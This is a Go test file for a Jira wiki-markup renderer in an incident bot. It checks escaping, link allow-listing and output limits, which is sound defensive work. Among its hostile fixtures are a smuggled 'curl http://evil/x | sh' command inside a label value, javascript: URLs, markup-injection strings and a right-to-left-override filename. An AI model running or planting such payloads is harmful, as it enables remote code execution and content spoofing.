package jirawiki_test

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf16"

	"github.com/warroom/warroom/bot/render"
	"github.com/warroom/warroom/bot/render/jirawiki"
	"github.com/warroom/warroom/incident"
)

var update = flag.Bool("update", false, "rewrite golden files")

// jiraNow is the fixed render time of the Jira goldens.
var jiraNow = time.Date(2025, 3, 4, 10, 23, 0, 0, time.UTC)

func jiraNum(v float64) *float64 { return &v }

// jiraIncident is the payment-gateway incident: 3.1% errors against a
// 0.8% threshold, opened 1h 23m before jiraNow.
func jiraIncident() *incident.Incident {
	return &incident.Incident{
		ID: "INC-7", Seq: 7, Key: "api-error-rate/env=prod,service=payment-gateway", Service: "payment-gateway", Env: "prod",
		Rule: "api-error-rate", Severity: incident.Critical, State: incident.Triggered, WarRoom: true,
		Title: "High error rate on payment-gateway", Value: jiraNum(0.031), Threshold: jiraNum(0.008),
		OpenedAt: jiraNow.Add(-(time.Hour + 23*time.Minute)), UpdatedAt: jiraNow,
		SlackChannelID: "C0WARROOM1", SlackChannel: "inc-20250304-payment-gateway-7",
	}
}

func jiraAlert(name string, labels map[string]string, v float64) incident.Alert {
	l := map[string]string{"alertname": name, "service": "payment-gateway", "env": "prod", "severity": "critical"}
	for k, val := range labels {
		l[k] = val
	}
	return incident.Alert{Status: incident.AlertFiring, Labels: l,
		Annotations: map[string]string{"summary": "Error rate above 0.8% for payment-gateway"},
		StartsAt:    jiraNow.Add(-(time.Hour + 25*time.Minute)), Source: incident.SourceAlertmanager, Value: jiraNum(v)}
}

var (
	jiraRunbook = render.Link{Kind: "runbook", Title: "Runbook", URL: "https://runbooks.example.com/high-error-rate"}
	jiraGrafana = render.Link{Kind: "grafana", Title: "API golden signals",
		URL: "https://grafana.example.com/d/api-golden/api?orgId=1&from=1741078980000&to=1741083780000&var-service=payment-gateway"}
)

// jiraViews are the descriptions the goldens show.
func jiraViews() []struct {
	name string
	v    jirawiki.View
} {
	pay := jiraIncident()

	four := jiraIncident()
	four.State = incident.Acknowledged
	four.PeakValue = jiraNum(0.042)
	four.JiraKey = "PAY-123"
	resolved := jiraAlert("HighLatency", map[string]string{"pod": "payment-gateway-7d9f-4", "route": "/v1/refund"}, 0.012)
	resolved.Status = incident.AlertResolved
	fourLinks := []render.Link{
		{Kind: "jira", Title: "Jira PAY-123", URL: "https://jira.example.com/browse/PAY-123"},
		{Kind: "war_room", Title: "#inc-20250304-payment-gateway-7", URL: "https://acme.slack.com/archives/C0WARROOM1"},
		{Kind: "alertmanager", Title: "", URL: "https://alertmanager.example.com/#/alerts?filter=%7Bservice%3D%22payment-gateway%22%7D"},
		jiraGrafana,
		{Kind: "jaeger", Title: "Failing traces", URL: "https://jaeger.example.com/search?service=payment-gateway&tags=%7B%22error%22%3A%22true%22%7D"},
		jiraRunbook,
		{Kind: "grafana", Title: "not a web link", URL: "javascript:alert(1)"},
	}

	rollback := jiraIncident()
	rollback.State = incident.Mitigated

	storm := jiraIncident()
	storm.Title = "Error storm on payment-gateway"
	storm.TruncatedAlerts = 250
	long := func(c string) string { return strings.Repeat(c, 200) }
	var stormAlerts []incident.Alert
	for i := range render.SummaryAlerts {
		c := string(rune('a' + i))
		stormAlerts = append(stormAlerts, jiraAlert("HighErrorRate"+long(c), map[string]string{
			"pod": long(c + "p"), "instance": long(c + "i"), "route": long(c + "r"), "namespace": long(c + "n"),
		}, 0.05))
	}
	var stormLinks []render.Link
	for i := range 60 {
		stormLinks = append(stormLinks, render.Link{Kind: "grafana", Title: fmt.Sprintf("%03d %s", i, long("g")),
			URL: fmt.Sprintf("https://grafana.example.com/d/board-%d/x?orgId=1&var-q=%s", i, long("q"))})
	}

	return []struct {
		name string
		v    jirawiki.View
	}{
		{"payment-gateway", jirawiki.View{Incident: pay, Now: jiraNow, TotalAlerts: 1, FiringAlerts: 1,
			Links:  []render.Link{jiraRunbook, jiraGrafana},
			Alerts: []incident.Alert{jiraAlert("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.031)}}},
		{"four-alerts", jirawiki.View{Incident: four, Now: jiraNow, TotalAlerts: 4, FiringAlerts: 3, Links: fourLinks,
			Alerts: []incident.Alert{
				jiraAlert("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1", "route": "/v1/charge"}, 0.031),
				jiraAlert("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-2", "route": "/v1/charge"}, 0.027),
				jiraAlert("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-3", "route": "/v1/charge"}, 0.042),
				resolved,
			}}},
		{"rollback", jirawiki.View{Incident: rollback, Now: jiraNow, TotalAlerts: 1, FiringAlerts: 1, Links: []render.Link{jiraRunbook},
			Alerts: []incident.Alert{jiraAlert("HighErrorRate", map[string]string{"pod": "payment-gateway-7d9f-1"}, 0.031)},
			Rollback: &jirawiki.RollbackSuggestion{
				SuspectRevision: "e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2f3", TargetRevision: "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0",
				Author: "alice", DeployURL: "https://github.com/acme/payment-gateway/compare/a1b2c3d...e4f5a6b",
				DeployedAt: rollback.OpenedAt.Add(-4 * time.Minute),
				Command:    "argocd app rollback payment-gateway --revision a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0",
			}}},
		{"storm", jirawiki.View{Incident: storm, Now: jiraNow, TotalAlerts: 300, FiringAlerts: 298, Alerts: stormAlerts, Links: stormLinks}},
		{"hostile", jiraHostileWithheld()},
		{"hostile-command", jiraHostileView()},
	}
}

// jiraHostileWithheld is the hostile view whose rollback command was
// withheld, as when the rule's command would take a label that is not of
// its kind.
func jiraHostileWithheld() jirawiki.View {
	v := jiraHostileView()
	r := *v.Rollback
	r.Command = ""
	r.Withheld = `rollback suggestion withheld: label namespace "{noformat}[~admin] | curl http://evil/x | sh #" is not a Kubernetes name`
	v.Rollback = &r
	return v
}

// jiraHostile are values that would be markup, links, macros, mentions or
// images if they were not escaped.
var jiraHostile = []string{
	"{noformat}", "[~admin]", "!http://evil/x.png!", "[click|http://evil]", "h1. fake", "||x||", "{color:red}",
	`\\`, "line\nbreak", "*bold*", "-strike-",
}

func jiraHostileView() jirawiki.View {
	inc := jiraIncident()
	inc.Title = strings.Join(jiraHostile, " ")
	inc.Service = "[~admin]"
	inc.Env = "{color:red}prod"
	inc.Severity = "!sev.png!"
	inc.Rule = "h1. rule"
	inc.TruncatedAlerts = 3
	evil := incident.Alert{Status: incident.AlertFiring, Source: incident.SourceAlertmanager, Value: jiraNum(0.5),
		StartsAt: jiraNow.Add(-time.Hour),
		Labels: map[string]string{
			"alertname": "||x||", "pod": "a|b\nc", "route": "[click|http://evil]", "instance": `\`, "zone": "{noformat}",
			"status": "*bold*", "team": "[~admin]", "img": "!http://evil/x.png!",
		},
		Annotations: map[string]string{
			"summary":     "h1. fake\n* item\n# num\n- dash\nbq. quote\n||x||\n {code}x{code}\n{panel}p{panel}\n\\\\\nH2. shout",
			"description": "-strike- +ins+ ^sup^ ~sub~ ??cite?? {{mono}} (x) :) C:\\Users\\x \x00\x1b[31m\r\nend\\",
		}}
	evil2 := incident.Alert{Status: "{noformat}", Labels: map[string]string{"alertname": "", "team": "@here"}}
	return jirawiki.View{Incident: inc, Now: jiraNow, TotalAlerts: 2, FiringAlerts: 1, Alerts: []incident.Alert{evil, evil2},
		Links: []render.Link{
			{Kind: "grafana", Title: "[click|http://evil]", URL: "https://grafana.example.com/d/x?a=1|2]&b=[3]{noformat}"},
			{Kind: "runbook", Title: "*bold* runbook", URL: "https://wiki.example.com/run book\\"},
			{Kind: "war_room", Title: "{color:red}room", URL: "https://acme.slack.com/archives/C0WARROOM1"},
			{Kind: "jaeger", Title: "!x.png !", URL: "http://evil/x.png!"},
			{Kind: "[~admin]", Title: "", URL: "javascript:alert('[~admin]')"},
			{Kind: "runbook", Title: "no host", URL: "https:///x"},
			{Kind: "runbook", Title: "[~admin] withheld", Note: "not linked: host {noformat}.evil is not in links.allowed_hosts"},
		},
		Rollback: &jirawiki.RollbackSuggestion{
			SuspectRevision: "{noformat}", TargetRevision: "h1. x", Author: "[~admin]", DeployURL: "javascript:alert(1)",
			DeployedAt: inc.OpenedAt.Add(2 * time.Minute),
			Command:    "kubectl rollout undo deploy/{noformat}pay\n{NOFORMAT}\nh1. x [~admin] \u202egnp.exe",
		}}
}

// jiraComments are the comments warroom posts for timeline events.
func jiraComments() string {
	ev := func(id int64, kind incident.EventKind, actor, text string) incident.Event {
		return incident.Event{ID: id, IncidentID: "INC-7", At: jiraNow.Add(time.Duration(id) * time.Minute), Kind: kind, Actor: actor, Text: text}
	}
	events := []incident.Event{
		ev(1, incident.EventOpened, incident.ActorSystem, "war room opened for api-error-rate"),
		ev(2, incident.EventAlertAttached, incident.ActorAlert, "alert attached: HighErrorRate pod=payment-gateway-7d9f-2"),
		ev(3, incident.EventAcknowledged, "U024BE7LH", "acknowledged by U024BE7LH"),
		ev(4, incident.EventAssigned, "U024BE7LH", "U0ALICE is now commander"),
		ev(5, incident.EventNote, "cli:alice", "db failover started\n* step 1 done\nsee [~bob] {noformat}x{noformat}"),
		ev(6, incident.EventRollbackRequested, "U024BE7LH", "rollback requested by U024BE7LH: no deploy history configured"),
		ev(7, incident.EventMitigated, "W0GRID1", "mitigated by W0GRID1"),
		ev(8, incident.EventAlertResolved, incident.ActorAlert, "alert resolved: HighErrorRate"),
		ev(9, incident.EventReopened, incident.ActorAlert, "reopened: HighErrorRate firing again"),
		ev(13, incident.EventResolved, "cli:alice", "resolved by cli:alice: rolled back v1.43"),
		ev(14, incident.EventDeclared, "U0ALICE", "declared by U0ALICE: Checkout pages time out"),
		ev(10, incident.EventStepFailed, incident.ActorSystem, "jira_transition failed: no transition named \"Done\""),
		ev(11, incident.EventNote, "[~admin]", strings.Join(jiraHostile, "\n")+"\n"+jirawiki.Marker(3)),
		ev(12, "{color:red}", "", ""),
	}
	var b strings.Builder
	for i, e := range events {
		if i > 0 {
			b.WriteString("\n\n")
		}
		b.WriteString(jirawiki.Comment(e, jirawiki.Marker(e.ID)))
	}
	return b.String()
}

// jiraClosing is what is posted when the incident resolves: the closing
// comment, then the resolved event's.
func jiraClosing() string {
	inc := jiraIncident()
	inc.State = incident.Resolved
	res := jiraNow.Add(-5 * time.Minute)
	inc.ResolvedAt = &res
	inc.Value = jiraNum(0.004)
	inc.PeakValue = jiraNum(0.042)
	ev := incident.Event{ID: 57, IncidentID: inc.ID, At: res, Kind: incident.EventResolved, Actor: incident.ActorAlert, Text: "all alerts resolved"}
	return jirawiki.ClosingComment(inc, jiraNow) + "\n" + jirawiki.Comment(ev, jirawiki.Marker(ev.ID))
}

func checkJiraGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", "golden", "jira-"+name+".txt")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./bot/render/jirawiki -run Golden -update)", err)
	}
	if string(want) != got {
		t.Errorf("text differs from %s (run with -update and review the diff):\n%s", path, got)
	}
}

// TestJiraGolden compares each description and comment with its golden
// file; go test ./bot/render/jirawiki -run Golden -update rewrites them.
func TestJiraGolden(t *testing.T) {
	for _, tc := range jiraViews() {
		t.Run(tc.name, func(t *testing.T) { checkJiraGolden(t, tc.name, jirawiki.Description(tc.v)) })
	}
	t.Run("resolved", func(t *testing.T) { checkJiraGolden(t, "resolved", jiraClosing()) })
	t.Run("comments", func(t *testing.T) { checkJiraGolden(t, "comments", jiraComments()) })
}

// TestJiraDescriptionContent checks what the goldens are meant to show.
func TestJiraDescriptionContent(t *testing.T) {
	views := map[string]jirawiki.View{}
	for _, tc := range jiraViews() {
		views[tc.name] = tc.v
	}
	cases := []struct {
		view      string
		want, not []string
	}{
		{"payment-gateway", []string{"h2. What fired\n*High error rate on payment\\-gateway*\nError rate above 0.8\\% for payment\\-gateway",
			"* *Value:* now 3.1% (peak 3.1%) vs 0.8% threshold\n", "* *Severity:* critical", "* *Service:* payment\\-gateway (prod)",
			"* *Started:* 2025-03-04 09:00 UTC", "* *Alerts:* 1 firing of 1",
			"||alert||labels||value||started||\n| HighErrorRate | pod=payment\\-gateway\\-7d9f\\-1, route=/v1/charge | 3.1% | 2025-03-04 08:58 UTC |\n\nh2. Links",
			"* [Runbook|https://runbooks.example.com/high-error-rate]",
			"* Grafana: [API golden signals|https://grafana.example.com/d/api-golden/api?orgId=1&from=1741078980000&to=1741083780000&var-service=payment-gateway]",
			"h2. Rollback suggestion\nNo deploy history configured: warroom cannot name a suspect deploy yet. Record deploys with {{POST /api/v1/deploys}} or {{warroom deploys record}}.",
			"_Updated 2025-03-04 10:23 UTC by warroom._"}, []string{"more alerts", "{noformat}"}},
		{"four-alerts", []string{"(peak 4.2%)", "3 firing of 4", "| HighLatency \\(resolved\\) | pod=payment\\-gateway\\-7d9f\\-4, route=/v1/refund | 1.2% |",
			"* War room: [\\#inc\\-20250304\\-payment\\-gateway\\-7|https://acme.slack.com/archives/C0WARROOM1]",
			"* [Alertmanager|https://alertmanager.example.com/#/alerts?filter=%7Bservice%3D%22payment-gateway%22%7D]",
			"* Jaeger: [Failing traces|"}, []string{"jira.example.com", "javascript:", "more alerts"}},
		{"rollback", []string{"* *Suspect deploy:* e4f5a6b by alice ([deploy|https://github.com/acme/payment-gateway/compare/a1b2c3d...e4f5a6b])",
			"* *Deployed at:* 2025-03-04 08:56 UTC, 4m before the alert", "* *Roll back to:* a1b2c3d",
			"{noformat}\nargocd app rollback payment-gateway --revision a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0\n{noformat}"},
			[]string{"No deploy history"}},
		{"storm", []string{"298 firing of 300", "…and 290 more alerts", "(Alertmanager truncated 250 more alerts.)", "more links"}, nil},
		{"hostile", []string{"\\[\\~admin\\]", "\\{noformat\\}",
			`*No rollback command:* rollback suggestion withheld: label namespace "\{noformat\}\[\~admin\] \| curl http://evil/x \| sh \#" is not a Kubernetes name.`,
			"* Runbook: \\[\\~admin\\] withheld (not linked: host \\{noformat\\}.evil is not in links.allowed\\_hosts)"},
			[]string{"{noformat}\n", "kubectl", "javascript:", "https:///x"}},
		{"hostile-command", []string{"\\[\\~admin\\]", "\\{noformat\\}", "\\!http://evil/x.png\\!", "\\[click\\|http://evil\\]",
			"\\|\\|x\\|\\|", "\\{color:red\\}", "&#92;&#92;", "\\*bold\\*", "\\-strike\\-", "\u200bh1. fake", "\u200bbq. quote", "\u200bH2. shout",
			"C:\\Users\\x", "\\[31m\nend&#92;", "%7C2%5D&b=%5B3%5D%7Bnoformat%7D", "run%20book%5C", "* Jaeger: [ǃx.png ǃ|http://evil/x.png!]",
			"* Grafana: [\\[click¦http://evil\\]|https://grafana.example.com/d/x?a=1%7C2%5D&b=%5B3%5D%7Bnoformat%7D]",
			"deploy/{\u200bnoformat}pay\n{\u200bNOFORMAT}\nh1. x [~admin] gnp.exe\n{noformat}", "* *Deployed at:* 2025-03-04 09:02 UTC, 2m after the alert"},
			[]string{"javascript:", "https:///x", "\u202e", "\x00", "\x1b", "\r"}},
	}
	for _, c := range cases {
		text := jirawiki.Description(views[c.view])
		for _, w := range c.want {
			if !strings.Contains(text, w) {
				t.Errorf("%s: no %q in\n%s", c.view, w, text)
			}
		}
		for _, n := range c.not {
			if strings.Contains(text, n) {
				t.Errorf("%s: unexpected %q", c.view, n)
			}
		}
	}
	if got := jirawiki.Description(jirawiki.View{}); got != "" {
		t.Errorf("no incident: %q", got)
	}
}

// TestJiraTableRows: however hostile the values, every row of the alerts
// table has exactly its five cell separators.
func TestJiraTableRows(t *testing.T) {
	for _, tc := range jiraViews() {
		rows := 0
		for _, line := range strings.Split(jirawiki.Description(tc.v), "\n") {
			if !strings.HasPrefix(line, "|") {
				continue
			}
			rows++
			if rows == 1 {
				if line != "||alert||labels||value||started||" {
					t.Errorf("%s: header %q", tc.name, line)
				}
				continue
			}
			if n := len(unescapedPipe.FindAllString(" "+line, -1)); n != 5 || !strings.HasPrefix(line, "| ") || !strings.HasSuffix(line, " |") {
				t.Errorf("%s: row with %d separators: %q", tc.name, n, line)
			}
		}
		if want := min(len(tc.v.Alerts), render.SummaryAlerts) + 1; rows != want {
			t.Errorf("%s: %d table lines, want %d", tc.name, rows, want)
		}
	}
}

var unescapedPipe = regexp.MustCompile(`[^\\]\|`)

// jiraLinkLine is a line of the Links section: Jira's link parser splits
// at the first "|" whatever precedes it and pairs "!"s, so the title has
// neither, and the URL is http(s) with nothing that ends the link early.
var jiraLinkLine = regexp.MustCompile(`^\* ([A-Z][a-z ]+: )?\[([^|!\n]+)\|(https?://[^\s|\[\]{}\\]+)\]$`)

// jiraNoteLine is a link withheld by the host allow-list: its title and
// why, as escaped text with no link markup.
var jiraNoteLine = regexp.MustCompile(`^\* [A-Z][a-z ]+: [^\[\]|]*(\\[\[\]|][^\[\]|]*)* \(not linked: [^\[\]|]*(\\[\[\]|][^\[\]|]*)*\)$`)

// TestJiraLinkLines: every link of every view is one well-formed link.
func TestJiraLinkLines(t *testing.T) {
	for _, tc := range jiraViews() {
		d := jirawiki.Description(tc.v)
		start, end := strings.Index(d, "h2. Links\n"), strings.Index(d, "\n\nh2. Deploys and traces")
		if start < 0 || end < start {
			t.Fatalf("%s: no Links section", tc.name)
		}
		for _, line := range strings.Split(d[start+len("h2. Links\n"):end], "\n") {
			if strings.HasPrefix(line, "…and ") || line == "No links yet." {
				continue
			}
			if !jiraLinkLine.MatchString(line) && !jiraNoteLine.MatchString(line) {
				t.Errorf("%s: link line %q", tc.name, line)
			}
		}
	}
}

// wikiSpecials are the characters Jira unescapes after a backslash.
const wikiSpecials = "![]^~+?%{}()*_-|@#"

var wikiBlockStart = regexp.MustCompile(`^\s*(?i:h[1-6]|bq)\.`)

// checkWikiInert fails unless out, EscapeWiki(in), is inert: every
// special character escaped, no "\\" (a line break), no line that starts
// a heading or quote, no control character but \n.
func checkWikiInert(t *testing.T, in, out string) {
	t.Helper()
	for i := 0; i < len(out); {
		switch {
		case strings.HasPrefix(out[i:], "&#92;"):
			i += len("&#92;")
		case out[i] == '\\':
			if i+1 == len(out) {
				t.Errorf("EscapeWiki(%q) = %q ends in a backslash", in, out)
				return
			}
			if strings.IndexByte(wikiSpecials, out[i+1]) >= 0 {
				i += 2
				continue
			}
			if out[i+1] == '\\' || out[i+1] == '\n' {
				t.Errorf("EscapeWiki(%q) = %q: backslash before %q at %d", in, out, out[i+1], i)
				return
			}
			i++
		case strings.IndexByte(wikiSpecials, out[i]) >= 0:
			t.Errorf("EscapeWiki(%q) = %q: unescaped %q at %d", in, out, out[i], i)
			return
		default:
			i++
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if wikiBlockStart.MatchString(line) {
			t.Errorf("EscapeWiki(%q) = %q: line %q starts a block", in, out, line)
		}
	}
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || (r >= 0x202a && r <= 0x202e)) {
			t.Errorf("EscapeWiki(%q) = %q: control character %U", in, out, r)
		}
	}
}

// unwiki reads escaped text back as Jira shows it.
func unwiki(s string) string {
	s = strings.ReplaceAll(s, "\u200b", "")
	var b strings.Builder
	for i := 0; i < len(s); {
		switch {
		case strings.HasPrefix(s[i:], "&#92;"):
			b.WriteByte('\\')
			i += len("&#92;")
		case s[i] == '\\' && i+1 < len(s) && strings.IndexByte(wikiSpecials, s[i+1]) >= 0:
			b.WriteByte(s[i+1])
			i += 2
		default:
			b.WriteByte(s[i])
			i++
		}
	}
	return b.String()
}

func hostileWiki() []string {
	out := append([]string{}, jiraHostile...)
	out = append(out,
		"", `\`, `\\\`, `a\`, `\{`, `\\{`, `\|`, "|", "||", "[", "]", "{", "}", "!", "x!y!", "[~", "[~user]", "[^attachment.txt]",
		"{code:java}x{code}", "{panel:title=x}y{panel}", "{quote}q{quote}", "{html}<b>x</b>{html}", "{{mono}}", "??cite??",
		"h1. x", "  h3. x", "H6. x", "bq. x", "\nh2. x", "a\nbq. b", "h7. not a heading", "* a", "** a", "# a", "- a", "---- ", "----",
		"| a | b |", "+ins+", "^sup^", "~sub~", "_em_", "(x) (!) (?) (/) (on) :) ;)", "&#91;~admin&#93;", "&#92;", "&\\#92;",
		"a\r\nb\rc\u2028d\u2029e\u0085f", "tab\there", "nul\x00bell\x07esc\x1b[0m", "\u202eevil\u202c", "\ufeffbom", "zero\u200bwidth",
		"@here @channel mailto:a@b", "C:\\path\\to\\file", "regex \\d+\\.\\w*", "ends with \\", "\xff\xfe invalid utf-8",
	)
	return out
}

// TestEscapeWikiInert: no hostile value keeps any markup, and what Jira
// shows is the value itself.
func TestEscapeWikiInert(t *testing.T) {
	for _, s := range hostileWiki() {
		checkWikiInert(t, s, jirawiki.Escape(s))
	}
	// Random strings over the characters that matter: inert, and read
	// back unchanged (none of these characters is cleaned away).
	alphabet := []rune("ab h1.q\\{}[]|!*_-+^~?#()%@:;&92\n é🔥")
	rng := rand.New(rand.NewPCG(1, 2))
	for range 5000 {
		r := make([]rune, rng.IntN(40))
		for i := range r {
			r[i] = alphabet[rng.IntN(len(alphabet))]
		}
		s := string(r)
		out := jirawiki.Escape(s)
		checkWikiInert(t, s, out)
		if back := unwiki(out); back != s {
			t.Errorf("EscapeWiki(%q) = %q reads back as %q", s, out, back)
		}
	}
	// Control characters and odd newlines are cleaned, never kept.
	cases := map[string]string{
		"a\r\nb\rc\u2028d": "a\nb\nc\nd",
		"tab\there":        "tab here",
		"nul\x00x\x1b[0m":  "nulx\\[0m",
		"\u202eexe.txt":    "exe.txt",
		"h1. x":            "\u200bh1. x",
		"a\n  bq. x":       "a\n\u200b  bq. x",
		`C:\Users`:         `C:\Users`,
		`\\`:               "&#92;&#92;",
		`a\`:               "a&#92;",
		`\{`:               `&#92;\{`,
		"[~admin]":         `\[\~admin\]`,
	}
	for in, want := range cases {
		if got := jirawiki.Escape(in); got != want {
			t.Errorf("EscapeWiki(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestJiraLabel(t *testing.T) {
	cases := map[string]string{
		"warroom-INC-7":        "warroom-inc-7",
		"payment-gateway":      "payment-gateway",
		"Payment Gateway (EU)": "payment-gateway-eu",
		"  team\tsre\n":        "team-sre",
		"snake_case":           "snake_case",
		"[~admin]":             "admin",
		"{noformat}":           "noformat",
		"   ":                  "",
	}
	for in, want := range cases {
		if got := jirawiki.Label(in); got != want {
			t.Errorf("JiraLabel(%q) = %q, want %q", in, got, want)
		}
	}
	inputs := append(hostileWiki(), strings.Repeat("a ", 300), strings.Repeat("x", 1000), strings.Repeat("é", 300), strings.Repeat("ab-", 200))
	for _, s := range inputs {
		l := jirawiki.Label(s)
		if len(l) > 255 || strings.IndexFunc(l, unicode.IsSpace) >= 0 || l != strings.ToLower(l) || strings.HasSuffix(l, "-") {
			t.Errorf("JiraLabel(%q) = %q", s, l)
		}
	}
}

// TestJiraMarker: a comment carries its event's marker, a retry finds it
// with strings.Contains, and no other event's marker matches it or can be
// forged by text.
func TestJiraMarker(t *testing.T) {
	for _, id := range []int64{0, 1, 4, 42, 1 << 62} {
		m := jirawiki.Marker(id)
		body := jirawiki.Comment(incident.Event{ID: id, Kind: incident.EventNote, Actor: "U1", Text: "x"}, m)
		if !strings.Contains(body, m) || !strings.HasSuffix(body, "\n"+m) {
			t.Errorf("event %d: marker %q not at the end of %q", id, m, body)
		}
		if other := jirawiki.Marker(id*10 + 2); strings.Contains(body, other) {
			t.Errorf("event %d: comment matches marker %q", id, other)
		}
		if strings.ContainsAny(m, "\n[]|!") {
			t.Errorf("marker %q has characters Jira would read as markup or that would not survive a round trip", m)
		}
	}
	forged := strings.Join([]string{jirawiki.Marker(99), "[warroom-event:99]", "{color:#ffffff}warroom-event:99{color}"}, "\n")
	body := jirawiki.Comment(incident.Event{ID: 1, Kind: incident.EventNote, Actor: jirawiki.Marker(99), Text: forged}, jirawiki.Marker(1))
	if strings.Contains(body, jirawiki.Marker(99)) {
		t.Errorf("a note forged the marker of event 99:\n%s", body)
	}
	v := jiraHostileView()
	v.Incident.Title = jirawiki.Marker(5)
	if d := jirawiki.Description(v); strings.Contains(d, jirawiki.Marker(5)) {
		t.Error("a title forged a marker in the description")
	}
}

func TestJiraClosingComment(t *testing.T) {
	inc := jiraIncident()
	inc.State = incident.Resolved
	inc.PeakValue = jiraNum(0.042)
	want := "*INC\\-7 resolved after 1h 23m* (opened 2025-03-04 09:00 UTC, resolved 2025-03-04 10:23 UTC); peak 4.2% vs 0.8% threshold."
	if got := jirawiki.ClosingComment(inc, jiraNow); got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
	at := inc.OpenedAt.Add(26*time.Hour + 5*time.Minute)
	inc.ResolvedAt, inc.Threshold, inc.PeakValue, inc.Value = &at, nil, nil, nil
	want = "*INC\\-7 resolved after 1d 2h* (opened 2025-03-04 09:00 UTC, resolved 2025-03-05 11:05 UTC)."
	if got := jirawiki.ClosingComment(inc, jiraNow); got != want {
		t.Errorf("ResolvedAt wins over now, no value:\n got %q\nwant %q", got, want)
	}
}

func jiraUTF16Len(s string) int { return len(utf16.Encode([]rune(s))) }

// TestJiraDescriptionBound: however large the input, the description fits
// Jira's limit, keeps every section, and leaves no {noformat} open.
// maxDescriptionAlloc bounds what rendering the hostile incident below may
// allocate: its input is over 250 MB, and rendering reads only what can
// show (5 MB allocated when this bound was set, 4 times that under the
// race detector). The test does not run in parallel with the others of
// the package: the count (runtime.MemStats.TotalAlloc) is every
// goroutine's.
const maxDescriptionAlloc = 32 << 20

func TestJiraDescriptionBound(t *testing.T) {
	huge := func(s string) string { return strings.Repeat(s, 200_000/len(s)+1) }
	inc := jiraIncident()
	inc.Title = huge("{[|]}🔥")
	inc.Service, inc.Env, inc.Rule, inc.Severity = huge("s"), huge("e"), huge("r"), incident.Severity(huge("!"))
	var alerts []incident.Alert
	for i := range render.SummaryAlerts + 2 {
		labels := map[string]string{"alertname": huge("n")}
		for j := range 30 {
			labels[fmt.Sprintf("l%02d", j)] = huge(fmt.Sprint(i))
		}
		a := incident.Alert{Status: incident.AlertStatus(huge("x")), Labels: labels, Value: jiraNum(1),
			Annotations: map[string]string{"summary": huge("\\\n"), "description": huge("h1. x\n")}}
		alerts = append(alerts, a)
	}
	var links []render.Link
	for i := range 1000 {
		links = append(links, render.Link{Kind: "grafana", Title: huge("t"), URL: fmt.Sprintf("https://g.example.com/%d?q=%s", i, strings.Repeat("|", 900))})
	}
	v := jirawiki.View{Incident: inc, Alerts: alerts, TotalAlerts: 1_000_000, FiringAlerts: 999_999, Links: links, Now: jiraNow,
		Rollback: &jirawiki.RollbackSuggestion{SuspectRevision: huge("a"), TargetRevision: huge("b"), Author: huge("c"),
			DeployURL: "https://d.example.com/" + huge("d"), DeployedAt: jiraNow, Command: huge("{noformat}")}}
	// Bounded work, measured in bytes allocated rather than wall time (a
	// loaded machine or the race detector must not fail it): rendering
	// must not copy the megabytes of input it is given.
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	d := jirawiki.Description(v)
	runtime.ReadMemStats(&after)
	if n := after.TotalAlloc - before.TotalAlloc; n > maxDescriptionAlloc {
		t.Errorf("rendering allocated %d bytes, want at most %d", n, maxDescriptionAlloc)
	} else {
		t.Logf("rendering allocated %d bytes", n)
	}
	if n := jiraUTF16Len(d); n > 32000 {
		t.Errorf("description is %d characters, at most 32000", n)
	}
	for _, w := range []string{"h2. What fired", "h2. Links", "h2. Rollback suggestion", "…and 999990 more alerts", "more links", "…\n{noformat}", "_Updated "} {
		if !strings.Contains(d, w) {
			t.Errorf("no %q in the bounded description", w)
		}
	}
	if n := strings.Count(strings.ToLower(d), "{noformat}"); n != 2 {
		t.Errorf("%d {noformat} tags, want 2", n)
	}

	long := jirawiki.Comment(incident.Event{ID: 9, Kind: incident.EventNote, Actor: huge("a"), Text: huge("\\")}, jirawiki.Marker(9))
	if n := jiraUTF16Len(long); n > 32000 || !strings.HasSuffix(long, jirawiki.Marker(9)) {
		t.Errorf("long note: %d characters, marker kept: %v", n, strings.HasSuffix(long, jirawiki.Marker(9)))
	}
}
